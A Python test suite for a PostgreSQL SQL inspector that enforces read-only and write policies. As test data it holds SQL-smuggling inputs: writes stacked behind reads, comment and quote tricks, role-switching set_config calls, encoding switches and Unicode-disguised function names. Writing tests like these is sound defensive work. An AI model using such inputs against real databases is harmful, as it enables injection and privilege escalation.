        ("SELECT 'a;b'; SELECT 2", ["SELECT 'a;b'", "SELECT 2"]),
        ("SELECT $x$;$x$ ; /* c */ SELECT 2 ;", ["SELECT $x$;$x$", "SELECT 2"]),
        ("SELECT 1 -- ;\n", ["SELECT 1"]),
        ('SELECT "a;b"', ['SELECT "a;b"']),
        ("SELECT E'\\';'", ["SELECT E'\\';'"]),
        ("SELECT 'a\\'; SELECT 2", ["SELECT 'a\\'", "SELECT 2"]),
        ("SELECT a$$b; SELECT 2", ["SELECT a$$b", "SELECT 2"]),  # $ inside a name is not a dollar quote
        ("SELECT 1 /* /* */ ; */; SELECT 2", ["SELECT 1", "SELECT 2"]),
        ("SELECT 1+/*;*/2;SELECT 3", ["SELECT 1+/*;*/2", "SELECT 3"]),
        ("SELECT 1--;\n;SELECT 3", ["SELECT 1", "SELECT 3"]),
        ("SELECT B'01' 'x'; SELECT 2", ["SELECT B'01' 'x'", "SELECT 2"]),
        ("SELECT 'a' -- c\n 'b;'; SELECT 2", ["SELECT 'a' -- c\n 'b;'", "SELECT 2"]),  # continuation
    ],
)
def test_statement_texts(sql: str, texts: list[str]) -> None:
    assert [s.text for s in inspect(sql).statements] == texts


def test_lexer_follows_the_server() -> None:
    kinds = [(k, v) for k, v, _, _ in tokenize("select\u00a0delete, a=-1, x ?| y, É, $1, 1..2")]
    assert kinds[0] == ("i", "select\u00a0delete")  # U+00A0 is a letter to the server, not a space
    assert ("o", "=") in kinds and ("o", "-") in kinds  # "=-" is "=" then "-"
    assert ("o", "?|") in kinds and ("i", "É") in kinds  # only ASCII folds
    assert ("p", "$1") in kinds and ("c", "..") in kinds
    for bad in ("'abc", "/* /* */", "$$abc", '"abc', '""', "E'abc\\'"):
        with pytest.raises(LexError):
            tokenize(bad)
    assert split(tokenize(";;SELECT 1;;")) == [(2, 4)]


def test_inspection_error_and_statement_fields() -> None:
    ins = inspect("SELECT 'x")
    assert ins.error == "unterminated quoted string" and ins.statements[0].kind == "unknown"
    ins = inspect("SELECT 1; SELEC 2")
    assert ins.error is not None and ins.error.startswith("could not be parsed safely")
    s = inspect("UPDATE orders SET a = 1").statements[0]
    assert (s.kind, s.command, s.has_where, s.needs) == ("write", "UPDATE", False, "write")
    s = inspect("SET ROLE admin").statements[0]
    assert (s.kind, s.command, s.needs) == ("session", "SET ROLE", "admin")
    assert inspect("").statements == () and inspect("").fingerprint == ""


# --- fingerprints and the cache --------------------------------------------------------------------


def test_fingerprint_is_stable_across_literals_case_space_and_comments() -> None:
    base = fingerprint("SELECT abalance FROM pgbench_accounts WHERE aid = 123")
    assert base == "select abalance from pgbench_accounts where aid = ?"
    assert fingerprint("select  abalance\nFROM pgbench_accounts /* c */ where aid=456 -- x") == base
    s = "SELECT * FROM t WHERE a = {}"
    assert len({fingerprint(s.format(v)) for v in ("'x'", "E'y\\''", "$$z$$", "$q$w$q$", "'a'\n'b'", "U&'c'")}) == 1
    assert fingerprint("SELECT 1; SELECT 2") == fingerprint("select 3 ;select 4;;") == "select ? ; select ?"


def test_fingerprint_keeps_what_decides() -> None:
    different = [
        ("SELECT a FROM t", "SELECT a FROM u"),
        ("SELECT a FROM t", 'SELECT a FROM "T"'),
        ('SELECT "A"', 'SELECT "a"'),
        ("SELECT É", "SELECT é"),  # the server folds ASCII only
        ("SELECT 1", "SELECT '1'"),  # numbers and strings stay apart
        ("SELECT x ? y", "SELECT x ?? y"),
        ("SELECT a ? 1", "SELECT a 1 ?"),  # operator ? is rendered ?? so it never meets a placeholder
        ("SET client_encoding = 'UTF8'", "SET client_encoding = 'SJIS'"),  # SET keeps its literals
        ("SELECT set_config('a', 'b', false)", "SELECT set_config('client_encoding', 'b', false)"),
        ("COPY t TO STDOUT", "COPY t TO 'stdout'"),
    ]
    for a, b in different:
        assert fingerprint(a) != fingerprint(b), (a, b)
    assert fingerprint("SELECT A") == fingerprint("select a")
    assert fingerprint("SELECT x ? 'k'") == "select x ?? '?'"


def test_inspector_parses_a_hot_statement_once(monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[int] = []
    real = inspector_mod._classify

    def counting(toks: list[tuple[str, str, int, int]], budget: object) -> object:
        calls.append(1)
        return real(toks, budget)  # type: ignore[arg-type]

    monkeypatch.setattr(inspector_mod, "_classify", counting)
    inspector = Inspector(READ)
    for aid in range(200):
        sql = f"SELECT abalance FROM pgbench_accounts_hot WHERE aid = {aid}"
        ins, d = inspector.check(sql)
        assert d.allowed and ins.statements[0].text == sql and ins == inspect(sql)
    assert len(calls) == 1


def test_cache_never_lends_a_decision_across_literals_that_matter() -> None:
    for policy in (READ, WRITE, ADMIN):
        inspector = Inspector(policy)
        assert inspector.check("SET client_encoding = 'UTF8'")[1].allowed
        assert inspector.check("SET client_encoding = 'SJIS'")[1].rule == "encoding"
        assert inspector.check("SELECT set_config('client_encoding', 'UTF8', false)")[1].allowed == (
            policy.mode == "admin"
        )
        assert inspector.check("SELECT set_config('client_encoding', 'SJIS', false)")[1].rule == "encoding"
        assert inspector.check("SET standard_conforming_strings = 'on'")[1].allowed
        assert inspector.check("SET standard_conforming_strings = 'off'")[1].rule == "encoding"


def test_cache_rechecks_pattern_rules_and_execute() -> None:
    rule = SqlRule("secret", Verdict.DENY, pattern=re.compile("secret"))
    inspector = Inspector(SqlPolicy("read", rules=(rule,)))
    assert inspector.check("SELECT * FROM t WHERE a = 'public'")[1].allowed
    assert inspector.check("SELECT * FROM t WHERE a = 'secret'")[1].rule == "secret"
    assert inspector.check("SELECT * FROM t WHERE a = 'public'")[1].allowed
    inspector = Inspector(READ)
    assert inspector.check("EXECUTE p", {"p": inspect("SELECT 1")})[1].allowed
    assert not inspector.check("EXECUTE p", {"p": inspect("DELETE FROM orders")})[1].allowed
    assert not inspector.check("EXECUTE p")[1].allowed
    assert inspector.check("EXECUTE p", {"p": inspect("SELECT 1")})[1].allowed


def test_cache_is_bounded() -> None:
    inspector = Inspector(READ, size=8)
    for i in range(50):
        inspector.check(f"SELECT c{i} FROM t")
    assert len(inspector._cache) <= 8 and len(inspector._texts) <= 8
    for i in range(50):
        inspector.check(f"SELECT c{i} FROM t WHERE a = {i}")
    assert len(inspector._skeletons) <= 8
    huge = "SELECT " + ", ".join(f"c{i}" for i in range(3000))
    assert inspector.check(huge)[1].allowed and huge not in inspector._texts


# --- property tests --------------------------------------------------------------------------------

# SQLINSPECT_FUZZ=20000 for a long local run.
FUZZ = settings(
    max_examples=int(os.environ.get("SQLINSPECT_FUZZ", "300")),
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)


@FUZZ
@given(st.text())
def test_inspect_never_raises(text: str) -> None:
    ins = inspect(text)
    assert isinstance(ins.fingerprint, str)
    for policy in (READ, WRITE, ADMIN):
        decide(ins, policy)


SOUP = [
    "SELECT", "select", "DELETE", "FROM", "orders", "WHERE", "(", ")", ";", "'", "''", '"', "$$", "$a$", "E'",
    "\\", "/*", "*/", "--", "\n", " ", "U&'", "B'", "?", "::", ",", "1", ".5", "$1", "set_config", "WITH", "AS",
    "INTO", "FOR", "UPDATE", "EXPLAIN", "ANALYZE", "SET", "ROLE", "COPY", "TO", "PROGRAM", "\x00", "\u00a0", "é",
]  # fmt: skip


@FUZZ
@given(st.lists(st.sampled_from(SOUP), max_size=40), st.sampled_from(["", " "]))
def test_token_soup_never_raises(parts: list[str], sep: str) -> None:
    text = sep.join(parts)
    ins = inspect(text)
    for policy in (READ, WRITE, ADMIN):
        decide(ins, policy)
    if Inspector(READ).check(text)[1].allowed:
        # Nothing the server would run as a write may start a statement of an allowed text.
        starts = {tokenize(s.text)[0][1] for s in ins.statements}
        assert not starts & {"delete", "update", "insert", "merge", "drop", "truncate", "alter", "create"}, text


READS = [
    "SELECT 1",
    "SELECT * FROM orders WHERE id = 5",
    "select count(*) from orders",
    "VALUES (1)",
    "SHOW search_path",
    "BEGIN READ ONLY",
    "EXPLAIN SELECT 1",
    "SELECT 'a;b', $$;$$",
]
WRITES = [
    "DELETE FROM orders",
    "delete from orders where id = 1",
    "UPDATE orders SET paid = true",
    "INSERT INTO orders VALUES (1)",
    "DROP TABLE orders",
    "insert into orders select * from orders",
    "WITH x AS (SELECT 1) DELETE FROM orders",
]
GAPS = st.lists(
    st.sampled_from([" ", "\n", "\t", "\r\n", "/* c */", "/* /* nested */ ; */", "-- c\n", "/**/"]), max_size=3
).map("".join)


def _mixed_case(word: str, flips: list[bool]) -> str:
    return "".join(c.upper() if f else c.lower() for c, f in zip(word, flips + [False] * len(word), strict=False))


@FUZZ
@given(
    st.sampled_from(READS),
    st.sampled_from(WRITES),
    GAPS,
    GAPS,
    st.lists(st.booleans(), max_size=12),
    st.booleans(),
)
def test_read_never_allows_a_smuggled_write(
    read: str, write: str, gap1: str, gap2: str, flips: list[bool], write_first: bool
) -> None:
    words = write.split(" ")
    words[0] = _mixed_case(words[0], flips)
    write = " ".join(words[:1]) + gap2 + " " + " ".join(words[1:])
    parts = [write, read] if write_first else [read, write]
    text = parts[0] + gap1 + ";" + gap2 + parts[1] + gap1
    assert not decide(inspect(text), READ).allowed, text
    assert not Inspector(READ).check(text)[1].allowed, text


LITERALS = st.one_of(
    st.integers(min_value=0, max_value=10**12).map(str),
    st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=12).map(
        lambda s: "'" + s.replace("'", "''") + "'"
    ),
    st.text(alphabet="abc';\\ $", max_size=8).map(lambda s: "$z$" + s.replace("$z$", "") + "$z$"),
)
TEMPLATES = [
    "SELECT abalance FROM pgbench_accounts WHERE aid = {}",
    "SELECT * FROM orders WHERE note = {} LIMIT 5",
    "UPDATE orders SET note = {} WHERE id = 1",
    "SELECT upper({}), set_config('a', 'b', false)",
    "COPY orders FROM {}",
    "SET statement_timeout = {}",
    "SET client_encoding = {}",
]


@FUZZ
@given(st.sampled_from(TEMPLATES), LITERALS, LITERALS)
def test_same_fingerprint_same_decision(template: str, lit1: str, lit2: str) -> None:
    a, b = template.format(lit1), template.format(lit2)
    if fingerprint(a) != fingerprint(b):
        return
    inspector = Inspector(READ)
    for policy in (READ, WRITE, ADMIN):
        assert decide(inspect(a), policy) == decide(inspect(b), policy), (a, b)
    assert inspector.check(a)[1] == decide(inspect(a), READ)
    assert inspector.check(b)[1] == decide(inspect(b), READ)


# The skeleton fast path (texts that differ only in integers): its grammar's edges and the lexer's tricky spots.
# Pieces made of the grammar's own characters (where the edges are: 1e5, 0x1f, 1_000, 1.5, t1, a$), and others.
SKELETON_SOUP = [
    "SELECT", "select", "abalance", "FROM", "pgbench_accounts", "WHERE", "aid", "t1", "_x", "a$", "e", "E", "x",
    "b", "u", "U", "n", "set", "SET", "set_config", "SHOW", "DELETE", "UPDATE", "EXECUTE", "p", "LIMIT", "AND",
    "1", "42", "007", "0", "1_000", "0x1f", "0b1", "0o7", "1e5", "1.5", ".5", "5.", "1..2", "e5", "_1", "1$",
    " ", "  ", "\n", "\t", "\r", ";", ",", "(", ")", ".", "*", "=", "<", ">", "!", "+", "<>", "!=", "=+", "..",
]  # fmt: skip
SKELETON_OTHER = ["$1", "$$", "\f", "\u00a0", "é", "-", "--", "/", "/*", "*/", ":", "::", "'", "''", '"', "[",
                  "?", "%", "&", "U&", "\\", "E'", "x'"]  # fmt: skip
SKELETON_PIECES = st.one_of(*[st.sampled_from(SKELETON_SOUP)] * 12, st.sampled_from(SKELETON_OTHER))


@FUZZ
@given(st.lists(SKELETON_PIECES, max_size=30), st.sampled_from(["", " "]), st.booleans(), st.randoms())
def test_skeleton_fast_path_matches_the_lexer(parts: list[str], sep: str, greedy: bool, rnd: object) -> None:
    import random

    assert isinstance(rnd, random.Random)
    if greedy:  # keep only pieces that leave the text in the fast grammar (most random joins fall out of it)
        text = ""
        for piece in parts:
            if skeleton(text + sep + piece) is not None:
                text += sep + piece
    else:
        text = sep.join(parts)
    skel = skeleton(text)
    if skel is None:
        return
    # Exactly the lexer's integers are replaced, and nothing else the lexer sees is a literal or a quote.
    toks = tokenize(text)
    assert {t[0] for t in toks} <= {IDENT, NUMBER, PUNCT, OP}, text
    ints = [(m.start(), m.end()) for m in inspector_mod._SKELETON_INT.finditer(text)]
    assert ints == [(a, b) for kind, _, a, b in toks if kind == NUMBER], text
    assert skeleton_texts(text) == [s.text for s in inspect(text).statements], text
    # Another text with the same skeleton: other integers, same inspection and decision as the full path.
    other = inspector_mod._SKELETON_INT.sub(lambda m: str(rnd.randrange(10 ** rnd.randrange(1, 12))), text)
    assert skeleton(other) == skel
    kept = inspector_mod._Scan(text).kept
    assert kept == inspector_mod._Scan(other).kept
    if not kept:
        assert fingerprint(other) == fingerprint(text), (text, other)
    for policy in (READ, WRITE, ADMIN):
        inspector = Inspector(policy)
        assert inspector.check(text) == (inspect(text), decide(inspect(text), policy))
        assert inspector.check(other) == (inspect(other), decide(inspect(other), policy)), (text, other)


def test_skeleton_fast_path_is_used_and_keeps_literals_that_matter(monkeypatch: pytest.MonkeyPatch) -> None:
    assert skeleton("SELECT a FROM t1 WHERE id = 12 AND b<>3;") == "SELECT a FROM t1 WHERE id = ? AND b<>?;"
    for text in ("SELECT 'a'", "SELECT 1.5", "SELECT 1e5", "SELECT $1", "SELECT 1 -- c", "SELECT x::int", 'SELECT "a"',
                 "SELECT 1_0", "SELECT 0x1f", "SELECT a\u00a0b", "SELECT 1 /* c */", "SELECT E'1'"):  # fmt: skip
        assert skeleton(text) is None, text
    inspector = Inspector(READ)
    assert inspector.check("SELECT abalance FROM pgbench_accounts WHERE aid = 1")[1].allowed
    want = inspect("SELECT abalance FROM pgbench_accounts WHERE aid = 22")
    monkeypatch.setattr(inspector_mod, "_Scan", None)  # the second text must not reach the lexer
    ins, d = inspector.check("SELECT abalance FROM pgbench_accounts WHERE aid = 22")
    monkeypatch.undo()
    assert d.allowed and ins == want
    # SET keeps its literals in the fingerprint: never served by skeleton.
    assert inspector.check("SET statement_timeout = 1000")[1].allowed
    assert "SET statement_timeout = ?" not in inspector._skeletons
    assert inspector.check("SELECT set_config(a, 1, false) FROM t")[1].rule
    assert not any("set_config" in k for k in inspector._skeletons)


def test_huge_texts_are_classified_by_keyword_and_rules_still_apply() -> None:
    filler = "; ".join("SELECT " + " + ".join(["1"] * 30) for _ in range(1200))  # past the parse budget
    ins = inspect(filler + "; DROP TABLE orders; DELETE FROM public.orders")
    drop, delete = ins.statements[-2:]
    assert ins.statements[-3].reason.endswith("too long to inspect")
    assert (drop.kind, drop.tables) == ("ddl", frozenset({"orders"}))
    assert (delete.kind, delete.needs, delete.tables) == ("write", "admin", frozenset({"public.orders"}))
    rules = (
        SqlRule("ddl", Verdict.KILL, kinds=frozenset({"ddl"})),
        SqlRule("orders", Verdict.DENY, kinds=frozenset({"write"}), tables=frozenset({"orders"})),
    )
    assert decide(ins, SqlPolicy("admin", rules=rules)).verdict is Verdict.KILL
    assert decide(inspect(filler + "; DELETE FROM orders"), SqlPolicy("admin", rules=rules)).rule == "orders"
    assert decide(ins, READ).rule == "unparseable"


def test_deep_nesting_fails_closed() -> None:
    for sql in ("SELECT " + "(" * 5000 + "1" + ")" * 5000, "SELECT " + "upper(" * 3000 + "x" + ")" * 3000):
        assert outcome(sql, READ).rule == "unparseable"
    assert outcome("EXPLAIN " * 10 + "SELECT 1", READ).rule == "unparseable"


def test_names_truncate_like_the_server() -> None:
    long_name = "c" * 70
    assert inspect(f"SELECT * FROM {long_name}").statements[0].tables == {"c" * 63}
    policy = SqlPolicy("read", sensitive_tables=frozenset({"c" * 63}))
    assert decide(inspect(f'SELECT * FROM "{long_name}"'), policy).alerts == (f"sensitive-table:{'c' * 63}",)


def _reference_operators(run: str) -> list[str]:
    out = []
    while run and not run.startswith(("/*", "--")):
        n = _operator_length(run)
        out.append(run[:n])
        run = run[n:]
    return out


@FUZZ
@given(st.text(alphabet="+-*/<>=~!@#%^&|`?", min_size=65, max_size=300))
def test_long_operator_runs_split_like_the_server(run: str) -> None:
    toks: list[tuple[str, str, int, int]] = []
    _long_operator_run(run, 0, len(run), toks.append)
    assert [v for k, v, _, _ in toks if k == OP] == _reference_operators(run)


# --- the server agrees -----------------------------------------------------------------------------

SPLITS = [
    "SELECT 1; SELECT 2",
    "SELECT 1 /* /* */ ; SELECT 2 */",
    "SELECT 1 /*/ ; */; SELECT 2",
    "SELECT 1 /**/; SELECT 2",
    "SELECT 1 -- /*\n; SELECT 2 -- */",
    "SELECT 'a\\'; SELECT 2; --'",
    "SELECT E'\\'; SELECT 2; --'",
    "SELECT e'it''s \\\\'; SELECT 2",
    "SELECT $$;$$; SELECT $a$ $$ ; $a$",
    "SELECT $tag$ $TAG$ ; $tag$; SELECT 2",
    "SELECT 'a'\n'; SELECT 2'",
    "SELECT 'a' -- c\n 'b;'; SELECT 2",
    'SELECT 1 AS "x;y"; SELECT 2',
    "SELECT 1+/*;*/2; SELECT 3",
    "SELECT 1--;\n; SELECT 3",
    "SELECT a$$b FROM (SELECT 1 AS a$$b) s; SELECT 2",
    "SELECT B'01', X'1f', N'x'; SELECT 2",
    "SELECT U&'d\\0061t\\+000061'; SELECT 2",
    "SELECT 1;;; SELECT 2;",
    "SELECT 1 \u00a0; SELECT 2",  # U+00A0 is a name (an alias here), not a space
    "SHOW search_path; SELECT count(*) FROM orders; BEGIN READ ONLY; COMMIT",
    "SELECT 1=-1, 2<>-2, 3!=3; SELECT 4",
]


def server_commands(cluster: PgCluster, sql: str) -> list[str]:
    """The command tag of each statement the server ran (simple query protocol: one result each)."""
    from psycopg import pq

    conn = pq.PGconn.connect(cluster.dsn("app_ro").encode())
    try:
        assert conn.status == pq.ConnStatus.OK, conn.error_message
        conn.send_query(sql.encode())
        tags = []
        while (res := conn.get_result()) is not None:
            assert res.status in (pq.ExecStatus.TUPLES_OK, pq.ExecStatus.COMMAND_OK), (sql, res.error_message)
            tags.append((res.command_status or b"").decode().split()[0])
        return tags
    finally:
        conn.finish()


def our_commands(sql: str) -> list[str]:
    ins = inspect(sql)
    assert ins.error is None, ins.error
    return [s.command.split()[0] for s in ins.statements]


@pytest.mark.parametrize("sql", SPLITS)
def test_statement_split_matches_the_server(pg_cluster: PgCluster, sql: str) -> None:
    assert our_commands(sql) == server_commands(pg_cluster, sql)


TRICKY_EXPRS = [
    "1", "'a;b'", "'it''s;'", "E'\\';'", "E'\\\\'", "'a\\'", "$$;$$", "$q$ $$ ; $q$", "$$$$",
    "B'01'", "X'1f'", "N'x;'", "U&'\\0061;'", "'a'\n';b'", "'a' -- ;\n';b'", '1 AS "x;y"', '1 AS """;"',
]  # fmt: skip
TRICKY_GAPS = [" ", "\n", "\t", "/* ; */", "/* /* ; */ ; */", "-- ;\n", "/**/", "/*/ ; */", "/* -- */", "-- /*\n"]


@settings(
    max_examples=int(os.environ.get("SQLINSPECT_FUZZ", "150")), deadline=None, suppress_health_check=list(HealthCheck)
)
@given(
    st.lists(st.lists(st.sampled_from(TRICKY_EXPRS), min_size=1, max_size=4), min_size=1, max_size=4),
    st.lists(st.sampled_from(TRICKY_GAPS), min_size=4, max_size=4),
)
def test_random_tricky_texts_split_like_the_server(
    pg_cluster: PgCluster, statements: list[list[str]], gaps: list[str]
) -> None:
    sql = (gaps[0] + ";" + gaps[1]).join("SELECT" + gaps[2] + ("," + gaps[3]).join(e) for e in statements)
    assert our_commands(sql) == server_commands(pg_cluster, sql)


@pytest.mark.parametrize(
    ("sql", "allowed"),
    [
        # asyncpg's type introspection (see asyncpg/introspection.py): must work in read scope
        ("SELECT current_setting('jit') AS cur, set_config('jit', 'off', false) AS new", True),
        ("select pg_catalog.set_config('statement_timeout', '0', false)", True),
        ("select set_config('role', 'postgres', false)", False),
        ("select set_config('session_authorization', 'postgres', false)", False),
        ("select set_config('default_transaction_read_only', 'off', false)", False),
        ("select set_config('client_encoding', 'SJIS', false)", False),
        ("select set_config(name, 'off', false) from t", False),
        ("select set_config('jit', 'off', false), set_config('role', 'a', false)", False),
        ("select myschema.set_config('jit', 'off', false)", False),
    ],
)
def test_set_config_of_a_read_setting_is_a_read(sql: str, allowed: bool) -> None:
    inspector = Inspector(SqlPolicy(mode="read"))
    assert inspector.check(sql)[1].allowed is allowed
    assert inspector.check(sql)[1].allowed is allowed  # and the same from the cache


# --- every identifier and string form, decoded as the server decodes it -----------------------------

NAME_FORMS = [
    'U&"\\0074able"', 'u&"\\0074able"', 'U&"d\\0061t\\+000061"', 'U&"d!0061t!+000061" UESCAPE \'!\'',
    'U&"a\\\\b"', 'U&"a!!b" uescape \'!\'', 'U&"x\\0022y"', 'U&"q""q"', 'U&"\\D83D\\DE00"', 'U&"\\00e9T"',
    'U&"caf\\00e9" /* c */ UESCAPE -- c\n \'\\\'', '"my""table"', '"MiXeD"', "plain_Name",
    'U&"' + "\\0061" * 70 + '"',  # cut to 63 bytes, as the server does
]  # fmt: skip
STRING_FORMS = [
    "'it''s'", "E'a\\nb\\tc'", "E'\\x41\\101\\u00e9\\U0001F600'", "E'it\\'s'", "e'a''b'", "N'nat'",
    "$$a'b$$", "$tag$ $$ $tag$", "U&'\\0041\\+000042'", "U&'!0041' UESCAPE '!'", "U&'a''b'", "'a'\n'b'",
    "E'a'\n'\\x42'", "U&'\\0041'\n'\\0042'", "U&'x!0041' UESCAPE E'!'",
]  # fmt: skip
BAD_FORMS = [
    'U&"\\00zz"', 'U&"\\D83D"', 'U&"\\DE00"', 'U&"\\D83Dx"', 'U&""', 'U&"x" UESCAPE \'ab\'', 'U&"x" UESCAPE \'a\'',
    'U&"x" UESCAPE \'+\'', 'U&"x" UESCAPE 1', 'U&"x" UESCAPE', "U&'\\0000'", "U&'\\+110000'", 'U&"x" UESCAPE U&\'!\'',
]  # fmt: skip


def _server_value(cluster: PgCluster, sql: str) -> tuple[str | None, str | None, str | None]:
    """(first column name, first value, error) as the server gives them for `sql`."""
    from psycopg import pq

    conn = pq.PGconn.connect(cluster.dsn("app_ro").encode())
    try:
        res = conn.exec_(sql.encode())
        if res.status != pq.ExecStatus.TUPLES_OK:
            return None, None, (res.error_message or b"").decode()
        value = res.get_value(0, 0)
        return (res.fname(0) or b"").decode(), None if value is None else value.decode(), None
    finally:
        conn.finish()


@pytest.mark.parametrize("form", NAME_FORMS)
def test_names_decode_like_the_server(pg_cluster: PgCluster, form: str) -> None:
    name, _, error = _server_value(pg_cluster, f"SELECT 1 AS {form}")
    assert error is None, error
    toks = tokenize(f"SELECT 1 AS {form}")
    assert len(toks) == 4 and toks[3][0] in (IDENT, QIDENT), toks
    assert toks[3][1] == name


@pytest.mark.parametrize("form", STRING_FORMS)
def test_strings_decode_like_the_server(pg_cluster: PgCluster, form: str) -> None:
    _, value, error = _server_value(pg_cluster, f"SELECT {form}::text")
    assert error is None, error
    toks = tokenize(f"SELECT {form}::text")
    assert [t[0] for t in toks] == ["i", "s", "c", "i"], toks
    assert string_value(toks[1][1]) == value


@pytest.mark.parametrize("form", BAD_FORMS)
def test_bad_unicode_forms_are_refused_like_the_server(pg_cluster: PgCluster, form: str) -> None:
    _, _, error = _server_value(pg_cluster, f"SELECT 1 AS x, {form}")
    assert error is not None
    with pytest.raises(LexError):
        tokenize(f"SELECT 1 AS x, {form}")
    assert not outcome(f"SELECT 1 AS x, {form}", READ).allowed


def test_unicode_names_are_judged_by_their_real_names() -> None:
    """A U&-escaped table is a read; a U&-escaped denied function is the denied function."""
    ins = inspect('SELECT * FROM U&"\\006Frders" WHERE U&"\\0069d" = 1')
    assert ins.statements[0].tables == {"orders"} and outcome(ins.statements[0].text, READ).allowed
    d = outcome('SELECT U&"\\0070g_terminate_backend"(1)', READ)
    assert not d.allowed and d.rule == FN
    d = outcome('SELECT U&"\\0070g_terminate_backend"(1)', WRITE)
    assert not d.allowed and d.rule == FN
    assert fingerprint('SELECT * FROM U&"\\0074able"') == fingerprint('SELECT * FROM "table"')
